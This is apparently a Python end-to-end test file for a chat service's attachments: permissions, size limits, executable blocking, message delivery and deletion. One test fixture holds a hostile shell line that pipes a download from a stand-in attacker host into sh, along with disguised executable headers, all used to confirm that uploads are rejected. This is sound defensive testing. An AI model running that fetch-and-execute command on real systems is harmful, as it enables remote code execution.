"""Attachments end to end, through the gateway: upload and download by both participants (and
admins), strangers refused, the size limit, executables (renamed ones too), messages carrying
attachments over REST and Socket.IO, and a deleted conversation taking its files along."""

from __future__ import annotations

import httpx
import pytest

from tests.e2e.conftest import Connect
from tests.support.api import Chat, assert_json_error, open_conversation, png, upload, uploaded
from tests.support.stack import TestStack
from tests.support.users import admin_token, new_user

ATTACHMENT_MAX_BYTES = 25 * 1024 * 1024  # the service's default, which the stack runs with
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(4000)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(4000)


async def test_both_participants_upload_and_download_admins_read_strangers_do_not(
    http: httpx.AsyncClient, stack: TestStack, chat: Chat
) -> None:
    photo = png(700 * 1024)
    from_customer = await uploaded(http, chat.customer, chat.conversation_id, "Фото 1.png", photo)
    assert from_customer == {
        "_id": from_customer["_id"],
        "filename": "Фото 1.png",
        "contentType": "image/png",
        "size": len(photo),
    }
    notes = "line one\nline two — ✓\n".encode()
    from_agent = await uploaded(http, chat.agent, chat.conversation_id, "notes.txt", notes)
    assert from_agent["contentType"] == "text/plain"

    admin = {"Authorization": f"Bearer {await admin_token(http, stack)}"}
    for meta, data in ((from_customer, photo), (from_agent, notes)):
        for headers in (chat.customer.headers, chat.agent.headers, admin):
            got = await http.get(f"/api/attachments/{meta['_id']}", headers=headers)
            assert got.status_code == 200, got.text
            assert got.content == data
            assert got.headers["x-content-type-options"] == "nosniff"
            assert got.headers["content-disposition"].startswith("attachment;")
    got = await http.get(f"/api/attachments/{from_customer['_id']}", headers=admin)
    assert got.headers["content-type"] == "image/png"
    assert got.headers["content-disposition"] == (
        "attachment; filename=\"1.png\"; filename*=UTF-8''%D0%A4%D0%BE%D1%82%D0%BE%201.png"
    )

    stranger = await new_user(http, stack, "customer")
    assert_json_error(
        await http.get(f"/api/attachments/{from_customer['_id']}", headers=stranger.headers), 403
    )
    assert_json_error(await upload(http, stranger, chat.conversation_id, "x.png", png(100)), 403)
    assert_json_error(await http.get(f"/api/attachments/{from_customer['_id']}"), 401)


async def test_an_upload_over_the_limit_is_413(http: httpx.AsyncClient, chat: Chat) -> None:
    # Within the gateway's body limit (26m), so the service's own limit answers.
    response = await upload(
        http, chat.customer, chat.conversation_id, "huge.png", png(ATTACHMENT_MAX_BYTES + 1)
    )
    assert_json_error(response, 413, "payload_too_large")
    # And the conversation still takes files of the allowed size afterwards.
    assert (
        await upload(http, chat.customer, chat.conversation_id, "ok.png", png(1000))
    ).status_code == 201


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("setup.exe", PE),
        ("program", ELF),
        ("cute-cat.png", ELF),  # a renamed executable
        ("invoice.pdf", PE),
        ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("run.bat", b"@echo off\r\n"),
    ],
)
async def test_executables_are_415(
    http: httpx.AsyncClient, chat: Chat, name: str, data: bytes
) -> None:
    response = await upload(http, chat.agent, chat.conversation_id, name, data)
    assert_json_error(response, 415, "executable_not_allowed")


async def test_messages_carry_attachments_of_their_own_conversation_only(
    http: httpx.AsyncClient,
    stack: TestStack,
    chat: Chat,
    connect: Connect,
) -> None:
    other_agent = await new_user(http, stack, "agent")
    elsewhere = await open_conversation(http, chat.customer, other_agent)
    foreign = await uploaded(http, chat.customer, elsewhere, "elsewhere.png", png(300))
    shot = await uploaded(http, chat.customer, chat.conversation_id, "shot.png", png(5000))
    doc = await uploaded(
        http, chat.agent, chat.conversation_id, "spec.pdf", b"%PDF-1.4\n" + bytes(100)
    )

    agent_socket = await connect(chat.agent, join=chat.conversation_id)

    url = f"/api/conversations/{chat.conversation_id}/messages"
    foreign_send = await http.post(
        url, json={"text": "see", "attachments": [foreign["_id"]]}, headers=chat.customer.headers
    )
    assert_json_error(foreign_send, 400, "invalid_attachment")

    # REST: a screenshot with no text.
    sent = await http.post(
        url, json={"text": "", "attachments": [shot["_id"]]}, headers=chat.customer.headers
    )
    assert sent.status_code == 201, sent.text
    assert sent.json()["attachments"] == [shot]
    pushed = await agent_socket.wait_for("newMessage", lambda m: m["_id"] == sent.json()["_id"])
    assert pushed[0]["attachments"] == [shot]
    assert pushed[0]["text"] == ""

    # Socket.IO: sendMessage passes the ids on; the ack and newMessage carry the metadata.
    customer_socket = await connect(chat.customer)
    ack = await customer_socket.send(
        chat.conversation_id, "both", attachments=[shot["_id"], doc["_id"]]
    )
    assert ack.get("attachments") == [shot, doc], ack
    pushed = await agent_socket.wait_for("newMessage", lambda m: m["_id"] == ack["_id"])
    assert pushed[0]["attachments"] == [shot, doc]
    refused = await customer_socket.send(chat.conversation_id, "x", attachments=[foreign["_id"]])
    assert refused.get("error") and refused.get("code"), refused

    history = await http.get(url, headers=chat.agent.headers)
    assert [m["attachments"] for m in history.json()[-2:]] == [[shot], [shot, doc]]


async def test_deleting_the_conversation_deletes_its_files(
    http: httpx.AsyncClient, chat: Chat
) -> None:
    meta = await uploaded(http, chat.customer, chat.conversation_id, "gone.png", png(300_000))
    url = f"/api/attachments/{meta['_id']}"
    assert (await http.get(url, headers=chat.agent.headers)).status_code == 200
    deleted = await http.delete(
        f"/api/conversations/{chat.conversation_id}", headers=chat.customer.headers
    )
    assert deleted.status_code == 200, deleted.text
    for who in (chat.customer, chat.agent):
        assert_json_error(await http.get(url, headers=who.headers), 404, "not_found")
